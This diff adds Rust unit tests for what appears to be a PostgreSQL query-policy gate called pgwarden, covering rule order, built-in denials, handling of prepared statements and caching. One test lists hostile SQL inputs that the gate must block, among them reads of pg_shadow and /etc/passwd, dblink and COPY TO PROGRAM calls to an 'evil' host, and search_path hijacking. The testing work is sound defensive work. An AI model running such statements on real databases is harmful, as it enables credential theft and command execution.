@@ -1,0 +1,281 @@
+use super::*;
+use pgwarden_api::DatabaseAccessPolicySpec;
+
+fn spec(yaml_rules: &str, default: &str) -> DatabaseAccessPolicySpec {
+    let y = format!(
+        "identity: {{localTrust: {{subject: dev}}}}\ndatabase: {{host: h, name: shop, credentialsSecret: c}}\ndefaultAction: {default}\nrules:\n{yaml_rules}"
+    );
+    serde_yaml_ng::from_str(&y).unwrap()
+}
+
+/// The example policy of DESIGN.md §2.
+fn design_gate() -> Gate {
+    Gate::new(
+        &spec(
+            r#"
+  - {name: no-file-access, action: Deny, functions: ["pg_read_*", "lo_*"]}
+  - {name: schema-changes, action: RequireApproval, statements: [DDL]}
+  - {name: bulk-writes, action: RequireApproval, statements: [UPDATE, DELETE], unfiltered: true}
+  - {name: app-data, action: Allow, statements: [SELECT, INSERT, UPDATE, DELETE], tables: ["public.orders", "public.order_items", "public.customers"]}
+  - {name: all-functions-allowed, action: Allow, functions: ["*"]}
+"#,
+            "Deny",
+        ),
+        64,
+    )
+}
+
+fn verdict(g: &Gate, sql: &str) -> (Action, String) {
+    let j = g.evaluate(sql);
+    (j.action(), j.reason())
+}
+
+#[test]
+fn rules_decide_in_order_and_the_default_decides_the_rest() {
+    let g = design_gate();
+    let cases: &[(&str, Action, &str)] = &[
+        (
+            "SELECT * FROM orders WHERE id = 1",
+            Action::Allow,
+            "rule \"app-data\"",
+        ),
+        (
+            "DELETE FROM orders WHERE id = 1",
+            Action::Allow,
+            "rule \"app-data\"",
+        ),
+        (
+            "DELETE FROM orders",
+            Action::RequireApproval,
+            "rule \"bulk-writes\": DELETE on public.orders without WHERE",
+        ),
+        (
+            "UPDATE customers SET name = 'x'",
+            Action::RequireApproval,
+            "bulk-writes",
+        ),
+        (
+            "ALTER TABLE orders ADD COLUMN note text",
+            Action::RequireApproval,
+            "rule \"schema-changes\"",
+        ),
+        (
+            "SELECT * FROM secrets",
+            Action::Deny,
+            "denied by default action: SELECT on public.secrets",
+        ),
+        ("TRUNCATE orders", Action::Deny, "default action"),
+        // The most severe access decides: one denied read sinks the statement.
+        (
+            "SELECT * FROM orders JOIN secrets USING (id)",
+            Action::Deny,
+            "public.secrets",
+        ),
+        (
+            "INSERT INTO orders SELECT * FROM secrets",
+            Action::Deny,
+            "public.secrets",
+        ),
+        // Deny outranks RequireApproval within one query string.
+        (
+            "ALTER TABLE orders ADD c int; SELECT * FROM secrets",
+            Action::Deny,
+            "public.secrets",
+        ),
+        // A rule's function glob; the rule comes before the allow-all one.
+        (
+            "SELECT lo_import('/etc/passwd')",
+            Action::Deny,
+            "built-in rule: function lo_import",
+        ),
+        ("SELECT 1", Action::Allow, ""),
+        ("SELECT now(), count(*) FROM orders", Action::Allow, ""),
+        ("SHOW server_version", Action::Allow, ""),
+        ("BEGIN", Action::Allow, ""),
+        (
+            "SELECT relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace",
+            Action::Allow,
+            "",
+        ),
+        (
+            "SELECT * FROM information_schema.columns",
+            Action::Allow,
+            "",
+        ),
+        ("SELEC 1", Action::Deny, "cannot parse"),
+    ];
+    let mut failures = Vec::new();
+    for (sql, want, reason) in cases {
+        let (got, why) = verdict(&g, sql);
+        if got != *want || !why.contains(reason) {
+            failures.push(format!(
+                "{sql}: want {want:?} ({reason}), got {got:?} ({why})"
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
+}
+
+#[test]
+fn built_in_denials_cannot_be_overridden() {
+    let g = Gate::new(
+        &spec(
+            r#"
+  - {name: everything, action: Allow, statements: [SELECT, INSERT, UPDATE, DELETE, MERGE, TRUNCATE, COPY_FROM, COPY_TO, DDL, PRIVILEGE, TRANSACTION, SESSION, EXPLAIN, MAINTENANCE, CODE]}
+  - {name: all-functions, action: Allow, functions: ["*"]}
+"#,
+            "Allow",
+        ),
+        64,
+    );
+    for sql in [
+        "SELECT * FROM pg_authid",
+        "SELECT passwd FROM pg_shadow",
+        "SELECT * FROM pg_stats",
+        "SELECT query FROM pg_stat_activity",
+        "SELECT pg_read_file('/etc/passwd')",
+        "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
+        "SELECT query_to_xml('select * from secrets', true, true, '')",
+        "SELECT set_config('search_path', 'evil', false)",
+        "SET search_path = evil",
+        "SET ROLE postgres",
+        "ALTER SYSTEM SET fsync = off",
+        "COPY orders TO PROGRAM 'curl evil'",
+        "LOAD 'evil'",
+        "CREATE VIEW v AS SELECT * FROM pg_authid",
+    ] {
+        let (got, why) = verdict(&g, sql);
+        assert_eq!(got, Action::Deny, "{sql}: {why}");
+        assert!(why.contains("built-in"), "{sql}: {why}");
+    }
+}
+
+#[test]
+fn rules_with_tables_never_match_tableless_statements() {
+    let g = Gate::new(
+        &spec("  - {name: orders-ddl, action: Allow, statements: [DDL], tables: [\"public.orders\"]}\n", "Deny"),
+        64,
+    );
+    assert_eq!(
+        verdict(&g, "ALTER TABLE orders ADD c int").0,
+        Action::Deny,
+        "the class-only DDL access is not covered"
+    );
+    let g = Gate::new(
+        &spec(
+            "  - {name: ddl, action: Allow, statements: [DDL]}\n",
+            "Deny",
+        ),
+        64,
+    );
+    assert_eq!(verdict(&g, "ALTER TABLE orders ADD c int").0, Action::Allow);
+    assert_eq!(verdict(&g, "CREATE SCHEMA s").0, Action::Allow);
+}
+
+#[test]
+fn user_functions_fall_to_the_default_builtins_do_not() {
+    let g = Gate::new(
+        &spec(
+            "  - {name: read, action: Allow, statements: [SELECT]}\n",
+            "Deny",
+        ),
+        64,
+    );
+    assert_eq!(verdict(&g, "SELECT lower('X')").0, Action::Allow);
+    assert_eq!(verdict(&g, "SELECT pg_catalog.lower('X')").0, Action::Allow);
+    let (a, why) = verdict(&g, "SELECT public.dump_cards()");
+    assert_eq!(a, Action::Deny, "{why}");
+    assert_eq!(verdict(&g, "SELECT dump_cards()").0, Action::Deny);
+    // A user function in another schema named like a built-in is not one.
+    assert_eq!(verdict(&g, "SELECT evil.lower('x')").0, Action::Deny);
+}
+
+#[test]
+fn execute_runs_only_what_this_session_prepared_through_the_gate() {
+    let g = design_gate();
+    let mut s = SessionState::default();
+    assert!(matches!(
+        g.judge("EXECUTE p(1)", &mut s),
+        Verdict::Refuse(_)
+    ));
+    assert_eq!(
+        g.judge("PREPARE p AS SELECT * FROM orders WHERE id = $1", &mut s),
+        Verdict::Allow
+    );
+    assert_eq!(g.judge("EXECUTE p(1)", &mut s), Verdict::Allow);
+    // A denied PREPARE creates nothing to execute.
+    assert!(matches!(
+        g.judge("PREPARE q AS SELECT * FROM secrets", &mut s),
+        Verdict::Refuse(_)
+    ));
+    assert!(matches!(g.judge("EXECUTE q", &mut s), Verdict::Refuse(_)));
+    assert_eq!(g.judge("DEALLOCATE p", &mut s), Verdict::Allow);
+    assert!(matches!(
+        g.judge("EXECUTE p(1)", &mut s),
+        Verdict::Refuse(_)
+    ));
+    // In one string, in order.
+    assert_eq!(
+        g.judge("PREPARE r AS SELECT 1; EXECUTE r", &mut s),
+        Verdict::Allow
+    );
+    assert!(matches!(
+        g.judge("EXECUTE t; PREPARE t AS SELECT 1", &mut s),
+        Verdict::Refuse(_)
+    ));
+    // Protocol-level names share the namespace.
+    s.prepared("s1");
+    assert_eq!(g.judge("EXECUTE s1", &mut s), Verdict::Allow);
+    s.closed("s1");
+    assert!(matches!(g.judge("EXECUTE s1", &mut s), Verdict::Refuse(_)));
+}
+
+#[test]
+fn refusals_carry_the_reason_and_42501() {
+    let g = design_gate();
+    let Verdict::Refuse(e) = g.judge(
+        "DELETE FROM customers WHERE id = 1; SELECT * FROM secrets",
+        &mut SessionState::default(),
+    ) else {
+        panic!("should be refused");
+    };
+    assert_eq!(e.code.code(), "42501");
+    assert!(!e.is_fatal());
+    assert_eq!(
+        e.message,
+        "pgwarden: denied by default action: SELECT on public.secrets"
+    );
+}
+
+#[test]
+fn the_cache_returns_the_same_judgement_and_stays_bounded() {
+    let g = Gate::new(
+        &spec(
+            "  - {name: read, action: Allow, statements: [SELECT]}\n",
+            "Deny",
+        ),
+        8,
+    );
+    let a = g.evaluate("SELECT * FROM t");
+    let b = g.evaluate("SELECT * FROM t");
+    assert!(
+        Arc::ptr_eq(&a, &b),
+        "second evaluation should be a cache hit"
+    );
+    for i in 0..100 {
+        g.evaluate(&format!("SELECT {i}"));
+    }
+    let c = g.evaluate("SELECT * FROM t");
+    assert_eq!(c.action(), Action::Allow);
+    let off = Gate::new(
+        &spec(
+            "  - {name: read, action: Allow, statements: [SELECT]}\n",
+            "Deny",
+        ),
+        0,
+    );
+    assert!(!Arc::ptr_eq(
+        &off.evaluate("SELECT 1"),
+        &off.evaluate("SELECT 1")
+    ));
+}
